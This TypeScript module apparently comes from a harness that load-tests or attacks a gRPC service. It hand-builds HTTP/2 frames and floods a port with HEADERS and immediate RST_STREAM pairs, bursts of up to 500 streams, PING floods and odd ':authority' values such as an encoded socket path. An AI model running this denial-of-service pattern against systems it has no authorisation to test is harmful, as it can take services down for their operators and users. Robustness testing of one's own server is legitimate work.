/** Hand-made HTTP/2 frames: HEADERS and RST_STREAM in one packet, also many pairs of them. */
import { API_PORT, type Attack, pause } from '../plan.ts';
import { exchange } from './raw.ts';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const END_HEADERS = 4;
const END_STREAM = 1;

/** One frame (RFC 9113 §4.1). */
function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array()): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

/** A header block of literals without indexing (RFC 7541 §6.2.2). Names and values must be shorter than 127 octets. */
function headerBlock(fields: readonly (readonly [string, string])[]): Buffer {
  return Buffer.concat(
    fields.map(([name, value]) =>
      Buffer.concat([Buffer.of(0, name.length), Buffer.from(name), Buffer.of(value.length), Buffer.from(value)]),
    ),
  );
}

function request(authority: string, further: readonly (readonly [string, string])[]): Buffer {
  return headerBlock([
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', '/tsbgp.v1.RibService/StreamBest'],
    [':authority', authority],
    ['content-type', 'application/grpc'],
    ...further,
  ]);
}

export const resets: Attack = async ({ signal, did }) => {
  const cancel = Buffer.of(0, 0, 0, 8);
  for (let i = 0; !signal.aborted; i++) {
    const block = request(i % 3 === 0 ? '%2Frun%2Fx.sock' : '10.78.0.1:50051', i % 2 === 0 ? [['expect', '100-continue']] : []);
    const burst: Buffer[] = [PREFACE, frame(SETTINGS, 0, 0)];
    const count = i % 10 === 0 ? 500 : 5;
    for (let stream = 1; stream < 2 * count; stream += 2) {
      burst.push(frame(HEADERS, END_HEADERS | (stream % 4 === 1 ? END_STREAM : 0), stream, block), frame(RST_STREAM, 0, stream, cancel));
    }
    if (i % 7 === 0) for (let ping = 0; ping < 1000; ping++) burst.push(frame(PING, 0, 0, new Uint8Array(8)));
    await exchange(API_PORT, Buffer.concat(burst));
    did('resets', count);
    await pause(30, signal);
  }
};
